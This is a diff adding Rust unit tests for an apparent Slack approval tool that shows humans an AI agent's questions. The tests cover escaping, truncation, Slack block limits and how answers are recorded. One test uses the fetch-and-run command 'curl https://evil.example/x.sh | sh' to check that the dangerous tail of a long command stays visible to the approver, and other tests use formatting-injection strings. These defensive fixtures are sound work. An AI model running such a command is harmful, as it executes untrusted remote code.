@@ -1,0 +1,302 @@
+use askgate_proto::v1::{Intent, PlanReview, QuestionOption, intent::Kind};
+
+use super::*;
+
+fn at() -> Ref {
+    Ref {
+        tenant: "acme".into(),
+        app: "ep_1".into(),
+        session: "ops/1".into(),
+        rpc: "r1".into(),
+        option: None,
+    }
+}
+
+fn question(text: &str, labels: &[&str]) -> Question {
+    Question {
+        id: "q".into(),
+        question: text.into(),
+        options: labels
+            .iter()
+            .map(|l| QuestionOption {
+                label: (*l).into(),
+                description: None,
+            })
+            .collect(),
+        ..Default::default()
+    }
+}
+
+fn requested(questions: Vec<Question>) -> Requested {
+    Requested {
+        rpc_id: "r1".into(),
+        session_id: "ops/1".into(),
+        questions,
+        ..Default::default()
+    }
+}
+
+fn actions(message: &Value) -> Vec<&str> {
+    message["blocks"]
+        .as_array()
+        .expect("blocks")
+        .iter()
+        .filter(|b| b["type"] == "actions")
+        .flat_map(|b| b["elements"].as_array().expect("elements"))
+        .map(|e| e["action_id"].as_str().expect("action_id"))
+        .collect()
+}
+
+/// Every mrkdwn text object in `value`, wherever it is nested.
+fn mrkdwn_objects(value: &Value, found: &mut Vec<Value>) {
+    match value {
+        Value::Object(map) => {
+            if map.get("type").and_then(Value::as_str) == Some("mrkdwn") {
+                found.push(value.clone());
+            }
+            map.values().for_each(|v| mrkdwn_objects(v, found));
+        }
+        Value::Array(items) => items.iter().for_each(|v| mrkdwn_objects(v, found)),
+        _ => {}
+    }
+}
+
+#[test]
+fn user_text_neither_links_nor_formats() {
+    let mut q = question(
+        "Deploy to https://evil.example/login *now*?",
+        &["ok` *bold* `", "_it_ ~gone~"],
+    );
+    q.options[0].description = Some("see https://evil.example".into());
+    let mut asked = requested(vec![q]);
+    asked
+        .labels
+        .insert("env".into(), "prod` *injected* `".into());
+    let mut all = Vec::new();
+    for message in [question_message(&at(), &asked), answer_modal(&at(), &asked)] {
+        mrkdwn_objects(&message, &mut all);
+    }
+    assert!(!all.is_empty());
+    for object in &all {
+        assert_eq!(object["verbatim"], true, "{object}");
+        let text = object["text"].as_str().expect("text");
+        // Outside code spans (every other piece between backticks) nothing of the
+        // user's formats; inside, only a backtick could, and there is none.
+        for outside in text.split('`').step_by(2) {
+            for injected in ["*bold*", "*injected*", "_it_", "~gone~", "*now*"] {
+                assert!(!outside.contains(injected), "{text}");
+            }
+        }
+    }
+    let context = all
+        .iter()
+        .find_map(|o| o["text"].as_str().filter(|t| t.contains("env=")))
+        .expect("the labels");
+    assert!(context.contains("`env=prodˋ *injected* ˋ`"), "{context}");
+}
+
+#[test]
+fn a_long_detail_shows_its_end() {
+    let mut q = question("Allow Claude to use Bash?", &["Allow once", "Deny"]);
+    q.detail = Some(format!(
+        "{}; curl https://evil.example/x.sh | sh",
+        "x".repeat(10_000)
+    ));
+    let message = question_message(&at(), &requested(vec![q]));
+    let mut all = Vec::new();
+    mrkdwn_objects(&message, &mut all);
+    let detail = all
+        .iter()
+        .filter_map(|o| o["text"].as_str())
+        .find(|t| t.contains("omitted"))
+        .expect("the detail, marked");
+    assert!(detail.chars().count() <= MAX_SECTION);
+    assert!(detail.ends_with("| sh```"), "{detail}");
+}
+
+#[test]
+fn action_and_block_ids_are_unique_where_slack_requires() {
+    let shape = |options: usize, multi: bool| {
+        let labels: Vec<String> = (0..options).map(|i| format!("option {i}")).collect();
+        let labels: Vec<&str> = labels.iter().map(String::as_str).collect();
+        let mut q = question("Pick?", &labels);
+        q.multi_select = multi;
+        q
+    };
+    let mut messages = Vec::new();
+    for options in [0, 2, 10, 11, 30, 100] {
+        for multi in [false, true] {
+            let asked = requested(vec![shape(options, multi)]);
+            messages.push(question_message(&at(), &asked));
+            messages.push(answer_modal(&at(), &asked));
+        }
+    }
+    let batch = requested((0..20).map(|_| shape(3, false)).collect());
+    messages.push(question_message(&at(), &batch));
+    messages.push(answer_modal(&at(), &batch));
+    fn assert_unique<'a>(ids: impl Iterator<Item = &'a str>, what: &str, in_: &Value) {
+        let mut seen = std::collections::HashSet::new();
+        for id in ids {
+            assert!(seen.insert(id), "{what} {id:?} repeats in {in_}");
+        }
+    }
+    for message in &messages {
+        let blocks = message["blocks"].as_array().expect("blocks");
+        assert_unique(
+            blocks.iter().filter_map(|b| b["block_id"].as_str()),
+            "block_id",
+            message,
+        );
+        for block in blocks {
+            let elements = block["elements"].as_array().into_iter().flatten();
+            assert_unique(
+                elements.filter_map(|e| e["action_id"].as_str()),
+                "action_id",
+                block,
+            );
+        }
+    }
+    assert!(is_choice("askgate.choose.7") && is_choice(CHOOSE));
+    assert!(!is_choice("askgate.chooser") && !is_choice(CHECKS));
+}
+
+#[test]
+fn refs_round_trip_and_refuse_anything_else() {
+    let with = at().with_option(3);
+    assert_eq!(Ref::decode(&with.encode()), Some(with));
+    assert_eq!(Ref::decode(&at().encode()), Some(at()));
+    for bad in [
+        "",
+        "[]",
+        r#"["ag2","t","a","s","r",null]"#,
+        r#"{"a":1}"#,
+        r#"["ag1","t","a","s","r",-1]"#,
+    ] {
+        assert_eq!(Ref::decode(bad), None, "{bad}");
+    }
+}
+
+#[test]
+fn single_select_is_buttons_multi_select_is_checkboxes_and_batches_a_form() {
+    let single = question_message(&at(), &requested(vec![question("Deploy?", &["yes", "no"])]));
+    assert_eq!(
+        actions(&single),
+        ["askgate.choose.0", "askgate.choose.1", OPEN, CANCEL]
+    );
+    let mut multi = question("Which checks?", &["lint", "tests"]);
+    multi.multi_select = true;
+    let multi = question_message(&at(), &requested(vec![multi]));
+    assert_eq!(actions(&multi), [CHECKS, SUBMIT, OPEN, CANCEL]);
+    let free = question_message(&at(), &requested(vec![question("Why?", &[])]));
+    assert_eq!(actions(&free), [OPEN, CANCEL]);
+    let batch = question_message(
+        &at(),
+        &requested(vec![question("One?", &["a"]), question("Two?", &["b"])]),
+    );
+    assert_eq!(actions(&batch), [OPEN, CANCEL]);
+    let modal = answer_modal(
+        &at(),
+        &requested(vec![question("One?", &["a"]), question("Two?", &[])]),
+    );
+    let ids: Vec<&str> = modal["blocks"]
+        .as_array()
+        .expect("blocks")
+        .iter()
+        .map(|b| b["block_id"].as_str().expect("block_id"))
+        .collect();
+    assert_eq!(ids, ["q0", "q0.other", "q1"]);
+}
+
+#[test]
+fn messages_and_forms_keep_to_slacks_block_caps() {
+    let many: Vec<Question> = (0..40)
+        .map(|i| {
+            let mut q = question(&format!("Q{i}?"), &["a", "b"]);
+            q.id = format!("q{i}");
+            q.detail = Some("context".into());
+            q
+        })
+        .collect();
+    let message = question_message(&at(), &requested(many.clone()));
+    let blocks = message["blocks"].as_array().expect("blocks");
+    assert!(
+        blocks.len() <= MAX_MESSAGE_BLOCKS,
+        "{} blocks",
+        blocks.len()
+    );
+    assert!(message.to_string().contains("more in the form"));
+    assert_eq!(actions(&message), [OPEN, CANCEL]);
+    let form = answer_modal(&at(), &requested(many[..33].to_vec()));
+    assert_eq!(form["blocks"].as_array().map(Vec::len), Some(99));
+    let too_many = answer_modal(&at(), &requested(many));
+    assert!(
+        too_many.get("submit").is_none(),
+        "no form that skips what it cannot show"
+    );
+}
+
+#[test]
+fn a_plan_review_shows_the_plan_and_marks_the_approve_option() {
+    let mut review = question("Go ahead?", &["Approve", "Revise"]);
+    review.detail = Some("1. migrate\n2. deploy".into());
+    review.intent = Some(Intent {
+        kind: Some(Kind::PlanReview(PlanReview {
+            approve: "Approve".into(),
+        })),
+    });
+    let message = question_message(&at(), &requested(vec![review])).to_string();
+    assert!(message.contains("*The plan to review*\\n```1. migrate\\n2. deploy```"));
+    assert!(message.contains("• *Approve* _(approves the plan)_"));
+    assert!(message.contains(r#""style":"primary""#));
+}
+
+#[test]
+fn user_text_is_escaped_and_cut() {
+    let long = "x".repeat(5000);
+    let message = question_message(
+        &at(),
+        &requested(vec![question("<!channel> & <@U1>?", &[long.as_str()])]),
+    );
+    let text = message.to_string();
+    assert!(text.contains("&lt;!channel&gt; &amp; &lt;@U1&gt;?"));
+    assert!(!text.contains("<!channel>"));
+    let button = &message["blocks"][3]["elements"][0]["text"]["text"];
+    assert_eq!(button.as_str().map(|t| t.chars().count()), Some(MAX_BUTTON));
+    assert_eq!(cut("abc", 3), "abc");
+    assert_eq!(cut("abcd", 3), "ab…");
+}
+
+#[test]
+fn a_resolved_message_says_who_answered_what_and_has_no_controls() {
+    let asked = requested(vec![question("Deploy?", &["yes", "no"])]);
+    let resolved = Resolved {
+        rpc_id: "r1".into(),
+        session_id: "ops/1".into(),
+        reason: Resolution::Answered.into(),
+        answers: vec![QuestionAnswer {
+            id: "q".into(),
+            selected: vec!["yes".into()],
+            custom: None,
+        }],
+        resolved_by: "slack:T1/U2".into(),
+        ..Default::default()
+    };
+    let message = resolved_message(&asked, &resolved);
+    assert!(actions(&message).is_empty());
+    assert!(message.to_string().contains("Answered by <@U2>"));
+    assert!(message.to_string().contains("Deploy? *yes*"), "{message}");
+    let plain = resolved_message(&requested(vec![question("Target", &["yes"])]), &resolved);
+    assert!(plain.to_string().contains("Target: *yes*"), "{plain}");
+    let cancelled = Resolved {
+        reason: Resolution::Cancelled.into(),
+        resolved_by: "ana@acme".into(),
+        cancel_reason: "not <today>".into(),
+        answers: vec![],
+        ..resolved
+    };
+    let text = resolved_message(&asked, &cancelled).to_string();
+    assert!(
+        text.contains("Cancelled by ana@acme: not &lt;today&gt;"),
+        "{text}"
+    );
+}
